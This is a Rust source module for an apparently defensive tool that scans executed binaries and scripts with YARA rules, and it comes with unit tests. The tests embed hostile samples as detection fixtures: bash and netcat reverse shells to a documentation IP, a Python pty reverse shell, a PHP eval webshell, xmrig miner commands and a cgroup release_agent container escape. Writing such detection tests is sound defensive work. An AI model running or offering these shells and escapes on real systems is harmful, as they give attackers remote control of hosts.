//! YARA signatures (`policies/signatures/*.yar`) over executed binaries and scripts.
//!
//! Engine: boreal, a pure-Rust YARA implementation. VirusTotal's yara-x was measured first: it brings
//! wasmtime and cranelift, 5.5 minutes of build on two cores and a 27 MB binary for a one-rule probe
//! (the budget for all of runwarden is 25 MB); boreal added about 3 MB and builds in under a minute,
//! and compiles these rules in about a millisecond, on the pipeline thread.
//!
//! Each file identity (device, inode, size, mtime, ctime) is scanned once while it is remembered
//! ([`CACHE_MAX_ENTRIES`]); runwarden's own executable is never scanned (it embeds these very rules
//! as text).
#![forbid(unsafe_code)]

use std::io::Read;
use std::path::Path;

use super::bounded::BoundedMap;
use crate::events::FileKey;

/// The default signature files, compiled in.
pub const DEFAULT_FILES: &[(&str, &str)] = &[
    ("policies/signatures/miners.yar", include_str!("../../../policies/signatures/miners.yar")),
    ("policies/signatures/shells.yar", include_str!("../../../policies/signatures/shells.yar")),
    ("policies/signatures/tools.yar", include_str!("../../../policies/signatures/tools.yar")),
];

/// Files larger than this are not scanned (a scan reads the whole file into memory).
pub const SCAN_MAX_BYTES: u64 = 64 * 1024 * 1024;
/// Bound on remembered scan results: the same as the hash cache's (`hash::CACHE_MAX_ENTRIES`, where
/// the number is explained), for the same files. Reserved at start, 0.4 MiB (a 64-byte key and an
/// empty `Vec` a bucket; only a file that matched has more). A file evicted is read again when it is
/// next seen: its buffer goes back to the kernel after the scan (`sys::pin_mmap_threshold`).
pub const CACHE_MAX_ENTRIES: usize = super::hash::CACHE_MAX_ENTRIES;

/// A matching rule: its name and the `family` meta when it has one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Match {
    pub rule: String,
    pub family: Option<String>,
}

pub struct Signatures {
    scanner: boreal::Scanner,
    cache: BoundedMap<FileKey, Vec<Match>>,
    own_exe: Option<FileKey>,
    pub scans: u64,
}

/// Compiles signature sources; errors name the file.
pub fn compile(files: &[(String, String)]) -> Result<boreal::Scanner, String> {
    let mut compiler = boreal::Compiler::new();
    for (name, text) in files {
        compiler.add_rules_str(text).map_err(|e| format!("{name}: {e}"))?;
    }
    Ok(compiler.finalize())
}

impl Signatures {
    /// The defaults plus every `*.yar` file of `extra_dir`.
    pub fn load(extra_dir: Option<&Path>) -> Result<Signatures, String> {
        let mut files: Vec<(String, String)> =
            DEFAULT_FILES.iter().map(|(n, t)| (n.to_string(), t.to_string())).collect();
        if let Some(dir) = extra_dir {
            let mut paths: Vec<_> = std::fs::read_dir(dir)
                .map_err(|e| format!("{}: {e}", dir.display()))?
                .filter_map(|e| e.ok().map(|e| e.path()))
                .filter(|p| p.extension().is_some_and(|x| x == "yar" || x == "yara"))
                .collect();
            paths.sort();
            for p in paths {
                let text = std::fs::read_to_string(&p).map_err(|e| format!("{}: {e}", p.display()))?;
                files.push((p.display().to_string(), text));
            }
        }
        let own_exe = std::fs::metadata("/proc/self/exe").ok().map(|m| crate::proc::files::key_of(&m));
        Ok(Signatures {
            scanner: compile(&files)?,
            cache: BoundedMap::new(CACHE_MAX_ENTRIES),
            own_exe,
            scans: 0,
        })
    }

    /// The rules matching a buffer.
    pub fn scan_bytes(&self, data: &[u8]) -> Vec<Match> {
        match self.scanner.scan_mem(data) {
            Ok(r) => r
                .rules
                .iter()
                .map(|m| Match {
                    rule: m.name.to_string(),
                    family: m.metadatas.iter().find_map(|meta| {
                        let key = self.scanner.get_string_symbol(meta.name);
                        match (key, &meta.value) {
                            ("family", boreal::MetadataValue::Bytes(b)) => {
                                Some(String::from_utf8_lossy(self.scanner.get_bytes_symbol(*b)).into_owned())
                            }
                            _ => None,
                        }
                    }),
                })
                .collect(),
            Err(_) => Vec::new(),
        }
    }

    /// The rules matching the file with identity `key`, read through the first candidate path whose
    /// metadata still matches (the running file, not a replacement).
    pub fn scan_file(&mut self, key: FileKey, candidates: &[&Path]) -> Vec<Match> {
        if Some(key) == self.own_exe || key.size > SCAN_MAX_BYTES {
            return Vec::new();
        }
        if let Some(m) = self.cache.get(&key) {
            return m.clone();
        }
        for path in candidates {
            let Ok(file) = std::fs::File::open(path) else { continue };
            if file.metadata().map(|m| crate::proc::files::key_of(&m)).ok() != Some(key) {
                continue;
            }
            let mut data = Vec::with_capacity(key.size as usize);
            if file.take(SCAN_MAX_BYTES).read_to_end(&mut data).is_err() {
                continue;
            }
            self.scans += 1;
            let found = self.scan_bytes(&data);
            self.cache.insert(key, found.clone());
            return found;
        }
        Vec::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sigs() -> Signatures {
        Signatures::load(None).expect("default signatures compile")
    }

    #[test]
    fn defaults_match_what_they_describe() {
        let s = sigs();
        let cases: &[(&[u8], &str)] = &[
            (b"xmrig 6.21 --donate-level 1 -o stratum+tcp://pool.example:3333", "miner_xmrig_family"),
            (b"{\"method\":\"mining.subscribe\"} {\"method\":\"mining.authorize\"} stratum+tcp://p:1", "miner_generic_stratum_client"),
            (b"pkill -f xmrig; rm -f /tmp/kdevtmpfsi", "miner_cryptojacking_kit"),
            (b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "reverse_shell_dev_tcp"),
            (b"import socket,os,pty;s=socket.socket();s.connect((h,p));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')", "reverse_shell_socket_dup2"),
            (b"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f", "netcat_fifo_shell"),
            (b"<?php eval(base64_decode($_POST['x'])); ?>", "webshell_php_eval_request"),
            (b"#!/bin/sh\n# PEASS-ng linpeas", "recon_linpeas_linenum"),
            (b"echo 1 > /tmp/cgrp/x/notify_on_release; echo $p > /tmp/cgrp/release_agent", "container_escape_cgroup_release_agent"),
        ];
        for (data, rule) in cases {
            let got: Vec<String> = s.scan_bytes(data).into_iter().map(|m| m.rule).collect();
            assert!(
                got.iter().any(|r| r == rule),
                "{rule} did not match {:?}: {got:?}",
                String::from_utf8_lossy(data)
            );
        }
        let family = s.scan_bytes(b"xmrig --donate-level 1").into_iter().next().and_then(|m| m.family);
        assert_eq!(family.as_deref(), Some("xmrig"));
    }

    #[test]
    fn ordinary_programs_and_scripts_do_not_match() {
        let s = sigs();
        for data in [
            &b"#!/bin/sh\nset -e\nexec gunicorn app:app --bind 0.0.0.0:8080\n"[..],
            b"import socket\ns = socket.create_connection(('db', 5432))\n",
            b"curl -fsS http://127.0.0.1:8080/healthz || exit 1",
            b"<?php echo htmlspecialchars($_GET['q']); ?>",
        ] {
            assert!(s.scan_bytes(data).is_empty(), "{:?} matched", String::from_utf8_lossy(data));
        }
        // Real system binaries stay quiet.
        for bin in ["/bin/sh", "/bin/ls", "/usr/bin/env"] {
            let data = std::fs::read(bin).unwrap();
            assert!(s.scan_bytes(&data).is_empty(), "{bin} matched");
        }
    }

    #[test]
    fn files_are_scanned_once_and_only_when_they_are_the_same_file() {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("m");
        std::fs::write(&p, b"xmrig --donate-level 1").unwrap();
        let key = crate::proc::files::key_of(&std::fs::metadata(&p).unwrap());
        let mut s = sigs();
        assert_eq!(s.scan_file(key, &[&p]).len(), 1);
        assert_eq!(s.scan_file(key, &[&p]).len(), 1);
        assert_eq!(s.scans, 1);
        let other = FileKey { ino: key.ino + 1, ..key };
        assert!(
            s.scan_file(other, &[&p]).is_empty(),
            "a different identity must not be scanned as this file"
        );
    }

    #[test]
    fn broken_signatures_name_the_file() {
        let err = compile(&[("extra.yar".into(), "rule x { condition: ".into())]).err().unwrap();
        assert!(err.starts_with("extra.yar"), "{err}");
    }

    #[test]
    fn remembered_scans_are_bounded_and_keep_the_newest() {
        let mut s = sigs();
        let key = |i: u64| FileKey { dev: 1, ino: i, size: 10, mtime_ns: 7, ctime_ns: 7 };
        let found = |i: u64| vec![Match { rule: format!("r{i}"), family: None }];
        let n = 3 * CACHE_MAX_ENTRIES as u64 + 17;
        for i in 0..n {
            s.cache.insert(key(i), found(i));
            assert!(s.cache.len() <= CACHE_MAX_ENTRIES);
        }
        assert!(s.cache.len() >= CACHE_MAX_ENTRIES / 2, "{}", s.cache.len());
        // The newest half of the bound is answered from memory (no candidate path to read).
        for i in n - CACHE_MAX_ENTRIES as u64 / 2..n {
            assert_eq!(s.scan_file(key(i), &[]), found(i), "{i}");
        }
        assert!(s.scan_file(key(0), &[]).is_empty(), "the oldest went");
        assert_eq!(s.scans, 0);
    }
}
